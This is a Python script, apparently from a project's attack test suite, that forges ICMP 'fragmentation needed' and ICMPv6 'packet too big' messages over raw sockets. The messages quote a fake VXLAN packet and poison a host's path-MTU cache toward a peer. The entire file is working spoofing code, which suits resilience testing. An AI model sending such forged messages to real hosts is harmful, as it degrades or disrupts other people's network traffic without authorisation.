# SPDX-License-Identifier: Apache-2.0
"""Tell a host that the path to a peer is small, which the kernel believes for ten minutes: python -m
tests.attacks.path_errors VTEP PEER. The message quotes a packet that the host might have sent. It takes CAP_NET_RAW."""

import ipaddress
import socket
import struct
import sys

from tests.attacks.packet import checksum

MTU = {4: 600, 6: 1300}  # the kernel takes no less than 552 and 1280
VXLAN_PORT = 4789


def tell(host: str, peer: str, port: int = VXLAN_PORT) -> None:
    """Send one message to `host`, about a packet from a port of its VTEP's: the one that it receives on, or another."""
    source, target = ipaddress.ip_address(host), ipaddress.ip_address(peer)
    udp = struct.pack("!HHHH", port, VXLAN_PORT, 1400, 0)
    addresses = source.packed + target.packed
    if source.version == 4:
        quoted = struct.pack("!BBHHHBBH", 0x45, 0, 1420, 1, 0x4000, 64, socket.IPPROTO_UDP, 0)
        quoted = quoted[:10] + checksum(quoted + addresses).to_bytes(2, "big") + addresses + udp
        message = struct.pack("!BBHHH", 3, 4, 0, 0, MTU[4]) + quoted
        message = message[:2] + checksum(message).to_bytes(2, "big") + message[4:]
        family, protocol = socket.AF_INET, socket.IPPROTO_ICMP
    else:
        quoted = struct.pack("!IHBB", 6 << 28, 1400, socket.IPPROTO_UDP, 64) + addresses + udp
        message = struct.pack("!BBHI", 2, 0, 0, MTU[6]) + quoted  # the kernel fills in the checksum
        family, protocol = socket.AF_INET6, socket.IPPROTO_ICMPV6
    with socket.socket(family, socket.SOCK_RAW, protocol) as sock:
        sock.sendto(message, (host, 0))


if __name__ == "__main__":
    tell(sys.argv[1], sys.argv[2])
